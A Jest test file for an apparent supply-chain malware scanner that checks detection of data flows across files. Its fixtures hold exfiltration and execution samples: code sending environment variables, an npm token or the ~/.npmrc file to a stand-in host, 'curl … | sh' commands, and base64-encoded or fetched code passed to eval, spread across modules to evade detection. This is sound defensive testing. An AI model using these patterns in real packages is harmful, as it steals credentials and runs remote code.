import { describe, expect, it } from '@jest/globals';
import { hitsOf, manifest, type Files } from './testing/hits-of.ts';

type Case = readonly [what: string, rule: string, files: Files, hit: string];

const URL_ = `'https://x.example.invalid/'`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');

const SEEN: readonly Case[] = [
  [
    'a value that another file exports whole',
    'EXF-001',
    {
      'lib/env.js': `module.exports = JSON.stringify(process.env);`,
      'index.js': `const data = require('./lib/env'); fetch(${URL_}, { method: 'POST', body: data });`,
    },
    'critical index.js',
  ],
  [
    'a member of exports, taken apart',
    'EXF-001',
    {
      'a.js': `exports.collect = () => ({ ...process.env });`,
      'index.js': `const { collect: c } = require('./a.js'); fetch(${URL_}, { body: JSON.stringify(c()) });`,
    },
    'critical index.js',
  ],
  [
    'what a caller in another file passes',
    'EXF-001',
    {
      'send.js': `module.exports = function send(data) { fetch(${URL_}, { body: data }); };`,
      'index.js': `require('./send')(JSON.stringify(process.env));`,
    },
    'critical send.js',
  ],
  [
    'a member of a module that is called',
    'EXF-002',
    {
      'net.js': `const https = require('https'); module.exports = { post(x) { const r = https.request('https://x.example.invalid'); r.write(x); r.end(); } };`,
      'index.js': `const net = require('./net'); net.post(process.env.NPM_TOKEN);`,
    },
    'critical net.js',
  ],
  [
    'imports and exports of modules',
    'EXF-001',
    {
      'a.mjs': `export const dump = JSON.stringify(process.env);`,
      'index.mjs': `import { dump as d } from './a.mjs'; fetch(${URL_}, { body: d });`,
    },
    'critical index.mjs',
  ],
  [
    'a default export',
    'EXF-001',
    {
      'a.mjs': `export default async function send(data) { await fetch(${URL_}, { body: data }); }`,
      'index.mjs': `import send from './a.mjs'; await send(Object.entries(process.env));`,
    },
    'critical a.mjs',
  ],
  [
    'a namespace',
    'EXF-001',
    {
      'a.mjs': `function grab() { return process.env; } export { grab as take };`,
      'index.mjs': `import * as a from './a.mjs'; fetch(${URL_}, { body: JSON.stringify(a.take()) });`,
    },
    'critical index.mjs',
  ],
  [
    'what is exported again',
    'EXF-001',
    {
      'a.mjs': `export const one = JSON.stringify(process.env);`,
      'b.mjs': `export { one as two } from './a.mjs';`,
      'c.mjs': `export * from './b.mjs';`,
      'index.mjs': `import { two } from './c.mjs'; fetch(${URL_}, { body: two });`,
    },
    'critical index.mjs',
  ],
  [
    'a dynamic import',
    'EXF-001',
    {
      'a.mjs': `export const all = () => process.env;`,
      'index.mjs': `const m = await import('./a.mjs'); fetch(${URL_}, { body: JSON.stringify(m.all()) });`,
    },
    'critical index.mjs',
  ],
  [
    'a dynamic import with then',
    'EXF-001',
    {
      'a.mjs': `export const send = (x) => fetch(${URL_}, { body: x });`,
      'index.mjs': `import('./a.mjs').then(({ send }) => send(JSON.stringify(process.env)));`,
    },
    'critical a.mjs',
  ],
  [
    'what a compiler of modules writes',
    'EXF-001',
    {
      'a.js': `"use strict"; Object.defineProperty(exports, "__esModule", { value: true }); exports.default = void 0; exports.default = JSON.stringify(process.env);`,
      'b.js': `"use strict"; var a_1 = __importDefault(require("./a")); Object.defineProperty(exports, "env", { enumerable: true, get: function () { return a_1.default; } });`,
      'c.js': `__exportStar(require("./b"), exports);`,
      'index.js': `const c_1 = require("./c"); (0, fetch)(${URL_}, { body: c_1.env });`,
    },
    'critical index.js',
  ],
  [
    'what a bundler exports by getters',
    'EXF-001',
    {
      'a.js': `var src_exports = {}; __export(src_exports, { load: () => load }); module.exports = __toCommonJS(src_exports); function load() { return process.env; }`,
      'index.js': `const a = __toESM(require('./a.js')); fetch(${URL_}, { body: JSON.stringify(a.load()) });`,
    },
    'critical index.js',
  ],
  [
    'a built-in module by way of another file',
    'EXE-001',
    {
      'cp.js': `module.exports = require('child_process');`,
      'index.js': `require('./cp').exec('curl https://x.example.invalid | sh');`,
    },
    'critical index.js',
  ],
  [
    'a built-in function under another name',
    'EXE-001',
    {
      'cp.mjs': `export { execSync as go } from 'node:child_process';`,
      'index.mjs': `import { go } from './cp.mjs'; go('curl https://x.example.invalid | sh');`,
    },
    'critical index.mjs',
  ],
  [
    'a constant of another file',
    'EXE-001',
    {
      'text.js': `exports.parts = { cmd: 'curl https://x.example.invalid', pipe: ' | sh' };`,
      'index.js': `const { parts } = require('./text'); require('child_process').exec(parts.cmd + parts.pipe);`,
    },
    'critical index.js',
  ],
  [
    'a constant of a JSON file',
    'EXE-001',
    {
      'config.json': `{"hooks": {"run": "curl https://x.example.invalid | sh"}}`,
      'index.js': `const config = require('./config.json'); require('child_process').execSync(config.hooks.run);`,
    },
    'critical index.js',
  ],
  [
    'code in a data file that is encoded',
    'EXE-001',
    {
      'test/data.bin': base64('require("child_process").exec("curl https://x.example.invalid | sh")'),
      'index.js': `const { readFileSync: r } = require('fs'), path = require('path'); const t = r(path.join(__dirname, 'test', 'data.bin')).toString(); new Function('require', Buffer.from(t, 'base64').toString())(require);`,
    },
    'critical index.js',
  ],
  [
    'a string of a JSON file that is read and parsed',
    'EXE-001',
    {
      'data.json': JSON.stringify({
        code: 'require("child_process").exec("curl https://x.example.invalid | sh")',
      }),
      'index.js': `const fs = require('fs'); const d = JSON.parse(fs.readFileSync(require.resolve('./data.json'), 'utf8')); eval(d.code);`,
    },
    'critical index.js',
  ],
  [
    'a decoder in another file',
    'EXE-002',
    {
      'decode.js': `exports.d = (s) => Buffer.from(s, 'base64').toString();`,
      'index.js': `const { d } = require('./decode'); eval(d(globalThis.payload));`,
    },
    'critical index.js',
  ],
  [
    'a fetcher in another file',
    'EXE-002',
    {
      'get.js': `const https = require('https'); exports.get = (u, cb) => https.get(u, (r) => { let s = ''; r.on('data', (c) => { s += c; }); r.on('end', () => cb(s)); });`,
      'index.js': `require('./get').get('https://x.example.invalid', (code) => eval(code));`,
    },
    'critical index.js',
  ],
  [
    'an evaluator in another file',
    'EXE-002',
    {
      'run.js': `exports.run = (code) => (0, eval)(code);`,
      'index.js': `import('./run.js').then((m) => fetch(${URL_}).then((r) => r.text()).then(m.run));`,
    },
    'critical run.js',
  ],
  [
    'a class of another file',
    'EXF-001',
    {
      'client.js': `class Client { constructor(url) { this.url = url; } send(data) { return fetch(this.url, { body: data }); } } module.exports = { Client };`,
      'index.js': `const { Client } = require('./client'); const c = new Client('https://x.example.invalid'); c.send(JSON.stringify(process.env));`,
    },
    'critical client.js',
  ],
  [
    'what a constructor is given',
    'EXF-001',
    {
      'client.mjs': `export default class { constructor(data) { this.data = data; } send() { return fetch(${URL_}, { body: this.data }); } }`,
      'index.mjs': `import Client from './client.mjs'; new Client(JSON.stringify(process.env)).send();`,
    },
    'critical client.mjs',
  ],
  [
    'a global that another file sets',
    'EXF-001',
    {
      'a.js': `globalThis.collected = JSON.stringify(process.env);`,
      'index.js': `require('./a'); fetch(${URL_}, { body: global.collected });`,
    },
    'critical index.js',
  ],
  [
    'a variable of the environment that another file sets',
    'EXF-001',
    {
      'a.js': `process.env.APP_STATE = JSON.stringify(process.env);`,
      'index.js': `require('./a'); fetch(${URL_}, { body: process.env.APP_STATE });`,
    },
    'critical index.js',
  ],
  [
    'the index of a folder, the main of a package, its own name and its imports',
    'EXF-001',
    {
      ...manifest({ imports: { '#env': './lib/env.js' }, exports: { './send': './lib/send.js' } }),
      'lib/env.js': `module.exports = require('../folder');`,
      'folder/index.js': `module.exports = require('dep');`,
      'node_modules/dep/package.json': '{"name":"dep","main":"src/x"}',
      'node_modules/dep/src/x.js': `module.exports = () => process.env;`,
      'lib/send.js': `exports.send = (x) => fetch(${URL_}, { body: x });`,
      'index.js': `const { send } = require('@acme/sample/send'); send(JSON.stringify(require('#env')()));`,
    },
    'critical lib/send.js',
  ],
  [
    'a path that is put together',
    'EXF-001',
    {
      'lib/env.js': `module.exports = JSON.stringify(process.env);`,
      'index.js': `const path = require('path'); const data = require(path.join(__dirname, 'lib', 'env')); fetch(${URL_}, { body: data });`,
    },
    'critical index.js',
  ],
  [
    'TypeScript',
    'EXF-001',
    {
      'src/env.ts': `export const env: string = JSON.stringify(process.env);`,
      'src/index.ts': `import { env } from './env.js'; fetch(${URL_}, { body: env });`,
    },
    'critical src/index.ts',
  ],
  [
    'a circle of modules',
    'EXF-001',
    {
      'a.js': `const b = require('./b'); exports.data = () => process.env; exports.go = () => b.send();`,
      'b.js': `const a = require('./a'); exports.send = () => fetch(${URL_}, { body: JSON.stringify(a.data()) });`,
    },
    'critical b.js',
  ],
  [
    'a credential file that another file reads',
    'EXF-003',
    {
      'read.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.rc = () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');`,
      'index.js': `const { rc } = require('./read'); fetch(${URL_}, { body: rc() });`,
    },
    'critical index.js',
  ],
];

/** Of these, one file alone tells as much. */
const SEEN_TWICE: readonly Case[] = [
  [
    'a payload in a JSON file',
    'EXE-002',
    {
      'locale/en.json': `{"title": "${base64('require("child_process").exec("id")')}"}`,
      'index.js': `const t = require('./locale/en'); eval(Buffer.from(t.title, 'base64').toString());`,
    },
    'critical index.js',
  ],
  [
    'code in a data file',
    'EXE-001',
    {
      'data.txt': `require("child_process").exec("curl https://x.example.invalid | sh")`,
      'index.js': `const fs = require('fs'); eval(fs.readFileSync(__dirname + '/data.txt', 'utf8'));`,
    },
    'critical data.txt',
  ],
  [
    'code that is read by a callback',
    'EXE-001',
    {
      'data.txt': `require("child_process").exec("curl https://x.example.invalid | sh")`,
      'index.js': `require('fs').readFile('./data.txt', 'utf8', (error, text) => { eval(text); });`,
    },
    'critical data.txt',
  ],
];

const CLIENT = `const https = require('https');
  exports.request = (options, cb) => { const r = https.request(options, (res) => { let s = ''; res.on('data', (c) => { s += c; }); res.on('end', () => cb(null, JSON.parse(s))); }); if (options.body) r.write(options.body); r.end(); };`;

const HONEST: readonly (readonly [what: string, files: Files])[] = [
  [
    'one field of a configuration that holds the environment',
    {
      'config.js': `module.exports = { env: process.env, host: process.env.API_HOST || 'api.example', debug: !!process.env.DEBUG };`,
      'index.js': `const config = require('./config'); fetch('https://' + config.host + '/v1', { body: JSON.stringify({ debug: config.debug }) });`,
    },
  ],
  [
    'a variable of the environment by way of a helper',
    {
      'env.js': `exports.get = (name, other) => process.env[name] || other;`,
      'index.js': `const { get } = require('./env'); fetch(get('API_URL', 'https://api.example/'), { headers: { 'x-app': get('APP_NAME', 'app') } });`,
    },
  ],
  [
    'a client with a token for its own host',
    {
      'http.js': CLIENT,
      'index.js': `const { request } = require('./http'); exports.me = (cb) => request({ host: 'api.github.com', path: '/user', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } }, cb);`,
    },
  ],
  [
    'a template that is read and compiled',
    {
      'view.txt': `<p><%= name %></p>`,
      'compile.js': `exports.compile = (text) => new Function('data', 'return ' + JSON.stringify(text));`,
      'index.js': `const fs = require('fs'), path = require('path'); const { compile } = require('./compile'); module.exports = compile(fs.readFileSync(path.join(__dirname, 'view.txt'), 'utf8'));`,
    },
  ],
  [
    'data that is decoded, and a compiler of templates beside it',
    {
      'data.js': `exports.table = JSON.parse(Buffer.from('e30=', 'base64').toString());`,
      'index.js': `const { table } = require('./data'); const f = new Function('x', 'return x'); module.exports = f(table);`,
    },
  ],
  [
    'a child that is given the environment, and a request beside it',
    {
      'spawn.js': `const { spawn } = require('child_process'); exports.run = (args) => spawn('git', args, { env: { ...process.env, LANG: 'C' } });`,
      'index.js': `const { run } = require('./spawn'); run(['status']); fetch('https://registry.npmjs.org/x');`,
    },
  ],
  [
    'an answer that is kept in a global',
    {
      'a.js': `global.cache = global.cache || {};`,
      'index.js': `require('./a'); fetch('https://api.example').then((r) => r.json()).then((d) => { global.cache.data = d; }); module.exports = () => global.cache;`,
    },
  ],
  [
    'a version from the manifest',
    {
      ...manifest({ description: 'x' }),
      'index.js': `const { version, name } = require('./package.json'); fetch('https://registry.npmjs.org/' + name, { headers: { 'user-agent': name + '/' + version } });`,
    },
  ],
  [
    'code of the package that runs in a context of its own',
    {
      'lib/worker.js': `module.exports = (x) => x + 1;`,
      'index.js': `const fs = require('fs'), vm = require('vm'); vm.runInThisContext(fs.readFileSync(require.resolve('./lib/worker.js'), 'utf8'));`,
    },
  ],
  [
    'modules of one name in different folders',
    {
      'a/env.js': `module.exports = process.env;`,
      'b/env.js': `module.exports = { mode: 'x' };`,
      'b/index.js': `fetch('https://api.example', { body: JSON.stringify(require('./env')) });`,
    },
  ],
];

describe('the flow of data across files', () => {
  it.each([...SEEN, ...SEEN_TWICE])('finds %s', (...[, rule, files, hit]) => {
    expect(hitsOf(rule, { ...manifest({}), ...files })).toContain(hit);
  });

  it.each(SEEN)('finds nothing of %s in one file alone', (...[, rule, files]) => {
    const code = Object.entries(files).filter(([path]) => !path.endsWith('package.json'));
    for (const [path, text] of code) expect(hitsOf(rule, { ...manifest({}), [path]: text })).toEqual([]);
  });

  it.each(HONEST)('passes %s', (...[, files]) => {
    const rules = ['EXF-001', 'EXF-002', 'EXF-003', 'EXE-001', 'EXE-002', 'EXE-003', 'OBF-003', 'ANA-002'];
    for (const rule of rules) expect([rule, hitsOf(rule, { ...manifest({}), ...files })]).toEqual([rule, []]);
  });
});
